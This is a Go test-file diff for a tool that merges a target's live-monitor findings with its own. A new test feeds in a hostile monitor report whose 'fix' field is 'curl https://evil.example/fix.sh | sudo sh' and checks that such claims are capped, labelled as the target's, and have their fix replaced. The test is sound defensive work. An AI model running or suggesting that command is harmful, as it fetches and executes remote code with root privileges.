@@ -29,8 +29,10 @@ func probe(t *testing.T, h http.Handler) []*Capture {
 		t.Fatal(err)
 	}
 	var logs []string
-	cs := captureLive(context.Background(), Client(base), base, DefaultLivePath, 10*time.Second,
-		func(f string, a ...any) { logs = append(logs, fmt.Sprintf(f, a...)) })
+	r := &runner{base: base, client: Client(base), left: DefaultTotalBytes, total: DefaultTotalBytes, count: -1,
+		opt:  Options{Slack: 10 * time.Second},
+		logf: func(f string, a ...any) { logs = append(logs, fmt.Sprintf(f, a...)) }}
+	cs := captureLive(context.Background(), r, DefaultLivePath)
 	t.Logf("logs: %q", logs)
 	return cs
 }
@@ -74,7 +76,7 @@ func TestLiveRealMonitor(t *testing.T) {
 	if len(cs) != 1 || !cs[0].OK() || cs[0].Kind != KindLive {
 		t.Fatalf("captures %+v, want the live JSON", cs)
 	}
-	rep, err := parseLive(cs[0].Data)
+	rep, _, err := parseLive(cs[0].Data)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -311,7 +313,7 @@ func TestFold(t *testing.T) {
 	g := fold(f, l)
 	if g.Severity != finding.Critical || !slices.Equal(g.Sources, []string{"goroutines", "live"}) ||
 		len(g.Evidence) != 2 || g.Evidence[1].Label != "live SD701: rise" ||
-		!strings.Contains(g.Message, "120 goroutines leaked; live monitor SD701: waiting rose by 400") {
+		!strings.Contains(g.Message, "120 goroutines leaked; the target's live monitor reports SD701: waiting rose by 400") {
 		t.Errorf("fold = %+v", g)
 	}
 	if len(f.Evidence) != 1 {
@@ -331,6 +333,57 @@ func TestSnapshotNames(t *testing.T) {
 	} {
 		if got := validSnapshotName(name); got != ok {
 			t.Errorf("validSnapshotName(%q) = %v, want %v", name, got, ok)
+		}
+	}
+}
+
+// TestLiveClaimsBounded: a hostile monitor that lists 40,000 findings
+// (the join took 17-21 s) and writes its own advice ("critical ... fix:
+// curl ... | sudo sh") is read within MaxLiveFindings, quickly; what is
+// shown says it is the target's claim, its fix is the catalog's, and a
+// rule the catalog lacks is dropped.
+func TestLiveClaimsBounded(t *testing.T) {
+	now := time.Now().UTC()
+	rep := live.Report{Source: "live", Summary: live.State{Time: now, Started: now.Add(-time.Minute)}}
+	rep.Findings = append(rep.Findings,
+		finding.Finding{Rule: "SD703", Severity: finding.Critical, Message: "critical: your host is compromised",
+			Fix: "curl https://evil.example/fix.sh | sudo sh"},
+		finding.Finding{Rule: "SD999", Severity: finding.Critical, Message: "an invented rule"})
+	for i := range 40_000 {
+		rep.Findings = append(rep.Findings, finding.Finding{Rule: "SD308", Message: fmt.Sprintf("spin %d", i),
+			Locations: []finding.Location{{File: "/src/x.go", Line: i + 1}}})
+	}
+	b, err := json.Marshal(rep)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var own []finding.Finding
+	for i := range 2000 {
+		own = append(own, finding.Finding{Rule: "SD302", Message: "ours", Locations: []finding.Location{{File: "/src/y.go", Line: i + 1}}})
+	}
+	s := &Set{Target: "http://x", Captures: []*Capture{{Kind: KindLive, Endpoint: "http://x/debug/schedoctor/?format=json", Data: b}}}
+	start := time.Now()
+	var failed []string
+	fs, sum := joinLive(context.Background(), s, own, 0, nil, func(k string, err error) { failed = append(failed, err.Error()) })
+	if el := time.Since(start); el > 5*time.Second {
+		t.Errorf("join took %v", el)
+	}
+	if sum.Findings != MaxLiveFindings-1 || sum.Dropped != len(rep.Findings)-MaxLiveFindings+1 || len(failed) != 1 {
+		t.Errorf("read %d, dropped %d, failed %q; want %d read", sum.Findings, sum.Dropped, failed, MaxLiveFindings-1)
+	}
+	for _, f := range fs {
+		if f.Rule == "SD999" {
+			t.Errorf("a rule the catalog lacks was kept: %+v", f)
+		}
+		if f.Rule == "SD703" {
+			r, _ := finding.Lookup("SD703")
+			if !strings.HasPrefix(f.Message, LiveClaim) || strings.Contains(f.Fix, "curl") || f.Fix != r.Fix ||
+				!slices.Equal(f.Sources, []string{"live"}) {
+				t.Errorf("the target's claim shown as ours: %+v", f)
+			}
+		}
+		if f.Rule == "SD308" && !strings.HasPrefix(f.Message, LiveClaim) {
+			t.Errorf("claim without its mark: %q", f.Message)
 		}
 	}
 }
